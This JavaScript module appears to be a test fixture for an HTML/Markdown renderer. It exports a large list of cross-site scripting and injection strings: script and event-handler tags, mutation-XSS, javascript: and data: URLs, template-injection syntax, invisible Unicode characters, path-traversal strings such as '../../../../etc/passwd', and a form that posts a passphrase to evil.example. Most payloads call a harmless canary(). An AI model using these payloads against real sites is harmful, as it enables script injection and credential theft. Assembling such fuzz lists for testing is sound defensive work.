// What nobody writes by accident: texts that would be more than text where a page is made without care.
//
// Each calls `canary()`, asks `evil.example` for something, or would break out of the place it is written to.

/** Elements that run something, fetch something, or change how the rest of a page is read. */
const ELEMENTS = [
  '<script>canary()</script>',
  '<ScRiPt >canary()</sCrIpT >',
  '<script src="https://evil.example/a.js"></script>',
  '<script type=module>canary()</script>',
  '<scr<script>ipt>canary()</scr</script>ipt>',
  '<script\n>canary()</script\n>',
  '<script/x>canary()</script>',
  '</script><script>canary()</script>',
  '"></script><script>canary()</script>',
  '<img src=x onerror=canary()>',
  '<img src="x" onerror="canary()"',
  '<img/src=x/onerror=canary()>',
  '<IMG """><SCRIPT>canary()</SCRIPT>">',
  '<img src=x:x onerror\n=\ncanary()>',
  '<img src=https://evil.example/pixel.gif>',
  '<img srcset="https://evil.example/a.png 2x" src=x>',
  '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'canary()\'/>">',
  '<image src=x onerror=canary()>',
  '<picture><source srcset="https://evil.example/a.png"><img src=x onerror=canary()></picture>',
  '<video><source onerror="canary()"></video>',
  '<video src=x onerror=canary()></video>',
  '<audio src=x onerror=canary()></audio>',
  '<video poster=https://evil.example/p.png autoplay></video>',
  '<svg onload=canary()>',
  '<svg><script>canary()</script></svg>',
  '<svg><script xlink:href="https://evil.example/a.js"/></svg>',
  '<svg><a xlink:href="javascript:canary()"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=canary() attributeName=x dur=1s></svg>',
  '<svg><set attributeName="href" to="javascript:canary()"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=canary()>#x"/></svg>',
  '<svg><foreignObject><body onload=canary()></foreignObject></svg>',
  '<svg><style>@import "https://evil.example/a.css";</style></svg>',
  '<math><mtext><script>canary()</script></mtext></math>',
  '<math href="javascript:canary()">x</math>',
  '<math><maction actiontype="statusline#x" xlink:href="javascript:canary()">x</maction></math>',
  '<iframe src="javascript:canary()"></iframe>',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  '<iframe src=https://evil.example/></iframe>',
  '<frameset onload=canary()><frame src="javascript:canary()"></frameset>',
  '<object data="javascript:canary()"></object>',
  '<embed src="javascript:canary()">',
  '<applet code="https://evil.example/a.class"></applet>',
  '<portal src="https://evil.example/"></portal>',
  '<body onload=canary()>',
  '<html onfocus=canary() autofocus>',
  '<head><base href="https://evil.example/"></head>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:canary()">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<link rel=preload as=fetch href=https://evil.example/a>',
  '<link rel=icon href=https://evil.example/i.ico>',
  '<style>@import "https://evil.example/a.css";</style>',
  '<style>body{background:url(https://evil.example/b.png)}</style>',
  '</style><script>canary()</script>',
  '<div style="background:url(https://evil.example/b.png)">x</div>',
  '<div style="position:fixed;inset:0;z-index:9">x</div>',
  '<p style="width:expression(canary())">x</p>',
  '<marquee onstart=canary()>x</marquee>',
  '<details open ontoggle=canary()><summary>x</summary></details>',
  '<input autofocus onfocus=canary()>',
  '<select autofocus onfocus=canary()><option>x</option></select>',
  '<textarea autofocus onfocus=canary()></textarea>',
  '<keygen autofocus onfocus=canary()>',
  '<form action=https://evil.example/><input name=passphrase><button>Open</button></form>',
  '<form action="javascript:canary()"><input type=submit></form>',
  '<form id=x></form><button form=x formaction="javascript:canary()">x</button>',
  '<isindex type=image src=x onerror=canary()>',
  '<dialog open onclose=canary()><form method=dialog><button>x</button></form></dialog>',
  '<div onpointerenter=canary() onmouseover=canary() onclick=canary()>x</div>',
  '<b/onclick=canary()>x</b>',
  '<b\u000conclick=canary()>x</b>',
  '<p onanimationend=canary() class=is-late>x</p>',
  '<xss onclick=canary() tabindex=1>x</xss>',
  '<custom-element onfocus=canary() tabindex=0 autofocus>x</custom-element>',
  '<plaintext>x',
  '<xmp><p title="</xmp><img src=x onerror=canary()>">',
  '<template><img src=x onerror=canary()></template>',
  '<template shadowrootmode=open><slot></slot><script>canary()</script></template>',
  '<slot name=x onslotchange=canary()></slot>',
];

/** What is harmless when it is read and not when it is read again: text that changes its meaning with its surroundings. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '<noembed><p title="</noembed><img src=x onerror=canary()>">',
  '<noframes><p title="</noframes><img src=x onerror=canary()>">',
  '<iframe><p title="</iframe><img src=x onerror=canary()>">',
  '<textarea><p title="</textarea><img src=x onerror=canary()>">',
  '<title><p title="</title><img src=x onerror=canary()>">',
  '<style><p title="</style><img src=x onerror=canary()>">',
  '<svg></p><style><a id="</style><img src=1 onerror=canary()>">',
  '<svg><p><style><!--</style><img src=x onerror=canary()>--></style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=canary()></style></annotation-xml></math>',
  '<svg><title><style><img title="</style><img src=x onerror=canary()>"></style></title></svg>',
  '<svg><desc><noscript><img title="</noscript><img src=x onerror=canary()>"></desc></svg>',
  '<p><table><tr><td><p title="</td></table><img src=x onerror=canary()>">x',
  '<select><noscript></select><img src=x onerror=canary()></noscript>',
  '<a title="\u2028" title="><img src=x onerror=canary()>">x</a>',
  '<span title="`` onerror=canary() ``">x</span>',
  '<span title=\'"><img src=x onerror=canary()>\'>x</span>',
  '<span lang="en\' onclick=\'canary()">x</span>',
  '<abbr title="&quot;&gt;&lt;img src=x onerror=canary()&gt;">x</abbr>',
  '<q cite="javascript:canary()">x</q>',
  '<time datetime="2026-11-21&quot; onclick=&quot;canary()">x</time>',
  '&lt;img src=x onerror=canary()&gt;',
  '&#60;script&#62;canary()&#60;/script&#62;',
  '&#x3c;img src=x onerror=canary()&#x3e;',
  '&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;',
  '+ADw-script+AD4-canary()+ADw-/script+AD4-',
  '\uff1cscript\uff1ecanary()\uff1c/script\uff1e',
];

/** Ends of what a value could stand in, and beginnings without an end. */
const EDGES = [
  '"', "'", '`', '>', '<', '&', '&#', '&lt', '">', "'>", '</', '/>', '-->', '<!--', '<!-->', '<!--->', '--!>', ']]>', '<![CDATA[', '<?php', '<!doctype html>', '<!x',
  '" onmouseover="canary()', "' onmouseover='canary()", '` onmouseover=canary()', '" autofocus onfocus="canary()" x="',
  '"><img src=x onerror=canary()>', "'><img src=x onerror=canary()>", '--><img src=x onerror=canary()>', ']]><img src=x onerror=canary()>',
  '<!-- --!><img src=x onerror=canary()>', '<!--><img src=x onerror=canary()>-->', '<![CDATA[<img src=x onerror=canary()>]]>',
  '</p></div></section></main></body></html><img src=x onerror=canary()>',
  '</div></div></div></div>', '</main><main id=_page>', '</template><img src=x onerror=canary()>', '</a></li></ul>', '</h1><h1>', '</td></tr></table>',
  '<div>', '<b><i><u>', '<table><tr><td>', '<ul><li>', '<details><summary>', '<a href="#/">', '<pre><code>', '<blockquote>',
  '<b title="', "<b title='", '<b title=', '<b ', '<!--[if gte IE 4]><script>canary()</script><![endif]-->',
];

/** Names that something else is called by already. */
const NAMES = [
  '<p id=_page>x</p>', '<dialog id=_palette open>x</dialog>', '<div id=_hits>x</div>', '<form id=_words><input name=content></form>', '<img name=_words>', '<a id=_notice name=_notice>x</a>', '<b id=_places popover>x</b>',
  '<img name=cookie><img name=body><img name=querySelector>', '<form name=document><input name=adoptedStyleSheets></form>', '<b id=__proto__>x</b>', '<b id=passphrase>x</b>',
  '<div class=portal data-dir=rtl>x</div>', '<div dir=rtl lang=xx>x', '<span class="unseen gate">x</span>',
  '## x {#_page}', '## x {#_words}', '## x {#_notice}', '## x {#_places}', '## x {#_term-x}', '## x {#__proto__}', '## x {#constructor}', '## x {#"onclick=canary()}', '## x {#"><img src=x onerror=canary()>}',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '_term-x', '_page', '#_page', '{#_page}', 'x {#constructor}', 'undefined', 'NaN', '[object Object]', 'null and void',
  '<button popovertarget=_places>x</button>', '<b popovertarget=_places popovertargetaction=show>x</b>', '<button data-action=lock>x</button>', '<b data-action=lock>x</b>',
  '<a href="#" data-asset="files/evil.html">x</a>', '<b data-due=2026-11-21 data-ask>x</b>', '<b data-from=2026-11-21><b data-before>x</b></b>', '<b data-recent=0><b data-on=2026-11-21>x</b></b>',
  '<b data-after=2026-11-21>x</b>', '<b data-within-from=2020-01-01 data-within-to=2030-01-01>x</b>', '<b role=alert aria-live=assertive aria-hidden=true>x</b>', '<b contenteditable accesskey=x tabindex=1 hidden inert>x</b>',
];

/** What other programs would put something else in the place of. */
const TEMPLATES = [
  '{{ 7 * 7 }}', '{{ words.portal.lock }}', '{{ agency | safe }}', '{{ __tera_context }}', '{% include "gate.html" %}', '{% for x in [1] %}x{% endfor %}', '{# gone #}', '{%- raw -%}', '{{ <icon name="menu" /> }}', '{% component x() %}{% endcomponent %}',
  '${canary()}', '#{canary()}', '<%= canary() %>', '{{constructor.constructor("canary()")()}}', '{name}', '{phone}', '{count}', '{time}', '$&', "$`$'$1$$", '%s%n%00%0a', '\\u003cscript\\u003ecanary()\\u003c/script\\u003e', '\\x3cimg src=x onerror=canary()\\x3e', '\\', '\\"', '\\0',
];

/** Characters that are not seen, turn the line around, or are not one character. */
const CHARACTERS = [
  'a\u0000b', 'a\u0008b', 'a\u001bb[31m', 'a\u007fb', 'a\u0085b', 'a\u2028b', 'a\u2029b', 'a\ufeffb', 'a\u200bb\u200db', 'a\u202egpj.exe', 'a\u2066b\u2069', '\u202e\u202d\u202a', 'a\ufffdb', '\ufffe\uffff',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a', '\u{1f469}\u200d\u{1f4bb}', '\u05e9\u05dc\u05d5\u05dd <b>x</b>', '\u0645\u0631\u062d\u0628\u0627 "x"', '\u{e0041}\u{e0042}', 'I\u0307\u0130\u0131\u017f\u212a',
  'x'.repeat(2_000), '<b>'.repeat(300), '<div>'.repeat(300), '> '.repeat(100) + 'x', '['.repeat(300), '*'.repeat(300), '((((((((((x', '- '.repeat(60) + 'x', '</div>'.repeat(300), '"'.repeat(300), '&'.repeat(300),
];

/** Addresses that are none of a site, a mail box or a telephone. */
const ADDRESSES = [
  'javascript:canary()', 'JaVaScRiPt:canary()', 'java\tscript:canary()', 'java\nscript:canary()', '\u0001javascript:canary()', ' javascript:canary()', 'javascript\u00a0:canary()', 'javascript&colon;canary()', 'javascript&#58;canary()',
  '&#106;avascript:canary()', '&#x6A;avascript:canary()', '&#0000106avascript:canary()', 'java&#x09;script:canary()', 'java&Tab;script:canary()', 'java&NewLine;script:canary()', 'java%0ascript:canary()', 'javascript%3Acanary()', 'j&zwnj;avascript:canary()',
  'javascript://evil.example/%0acanary()', 'vbscript:canary()', 'livescript:canary()', 'data:text/html,<script>canary()</script>', 'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==', 'DATA:image/svg+xml,<svg onload=canary()>', 'blob:https://evil.example/x',
  'file:///etc/passwd', 'filesystem:https://evil.example/x', 'view-source:javascript:canary()', 'feed:javascript:canary()', 'about:blank', '//evil.example/', '\\\\evil.example\\x', '/\\evil.example/', 'https:evil.example', 'x-app:open', '../../../../etc/passwd', '#" onclick="canary()', '#<img src=x onerror=canary()>',
];

/** Addresses as the kinds of links that Markdown has, in turn. */
const LINKS = ADDRESSES.map((address, at) => [
  `[x](${address})`, `[x](<${address}>)`, `<a href="${address}">x</a>`, `![x](${address})`, `<${address}>`, `[x]\n\n[x]: ${address}`, `<a href='${address}' title=x>x</a>`, `<a href=${address}>x</a>`,
][at % 8]).concat(ADDRESSES.slice(0, 18).map((address) => `<a href="${address}">x</a>`), ADDRESSES);

/** Markdown that says more than its text. */
const MARKDOWN = [
  '[x](https://example.com "\\" onmouseover=canary() x=\\"")', "[x](https://example.com '\" onmouseover=canary() \"')", '[x](https://example.com/"onmouseover="canary())', '[x](<https://example.com/"><img src=x onerror=canary()>>)', '[<img src=x onerror=canary()>](https://example.com)',
  '[x](/docs/d2.md "><img src=x onerror=canary()>")', '[x](/docs/d2.md#"><img>)', '[x](/files/evil.html "\' onclick=canary()")', '[x](/files/evil.svg)', '![x](/files/evil.svg)', '![" onerror="canary()](/files/evil.svg "\\" onload=canary()")', '<img src="/files/evil.svg" alt=\'" onload="canary()\' onload=canary() width=9999 height=9999>',
  '![x](https://evil.example/pixel.png)', '[x](mailto:a@example.com?subject="><img>)', '[x](tel:+1"onclick=canary())', '[a@evil.example](mailto:%22onclick=canary()@example.com)', '<https://example.com/"onmouseover="canary()>', 'https://example.com/"onmouseover="canary()', 'www.example.com/<img/src=x/onerror=canary()>',
  '```"><script>canary()</script>\nx\n```', '```js" onclick="canary()\ncanary()\n```', '```html\n<script>canary()</script>\n```', '```\n</code></pre><img src=x onerror=canary()>\n```', '    <img src=x onerror=canary()>', '`<img src=x onerror=canary()>`', '``` <b>', '~~~',
  '| <script>canary()</script> | " |\n|---|---|\n| </td></table><img src=x onerror=canary()> | \' |', '[^"><img>]\n\n[^"><img>]: <img src=x onerror=canary()>', '[^_page]\n\n[^_page]: x', '[^__proto__]\n\n[^__proto__]: x', '> [!NOTE]\n> <img src=x onerror=canary()>', '> [!"><script>canary()</script>]\n> x', '- [x] <img src=x onerror=canary()>\n- [ ] </ul><script>canary()</script>',
  '# <img src=x onerror=canary()>', '## " onclick="canary()', '<h1 id=_page>x</h1>', 'x\n===', '***bold <b>and</b> `</b>`***', '~~<s onclick=canary()>~~', '<b>*x</b>*', '*<b>x*</b>', '[x][y]\n\n[y]: /docs/d2.md "\'><img src=x onerror=canary()>"', '\\<img src=x onerror=canary()>', '&lt;script>canary()&lt;/script>', '<a href="/docs/d2.md"><a href="/docs/d2.md">x</a></a>', '<details open><summary>x</summary>\n\n<img src=x onerror=canary()>', '<table>\n\n**x**\n\n<tr><td>\n\ny', '<pre>\n<script>canary()</script>\n</pre>', '<div><p><table><div></p></table>\n\n</div>',
];

/** With a picture that there is: otherwise a picture that is missing would be all that is found. */
const pictured = (values) => values.filter((value) => value.includes('src=x')).map((value) => value.replaceAll('src=x', 'src=/files/evil.svg'));

/** All of them, each once. */
export const VALUES = [...new Set([...ELEMENTS, ...pictured([...ELEMENTS, ...MUTATIONS, ...EDGES, ...MARKDOWN]), ...MUTATIONS, ...EDGES, ...NAMES, ...TEMPLATES, ...CHARACTERS, ...LINKS, ...MARKDOWN])];
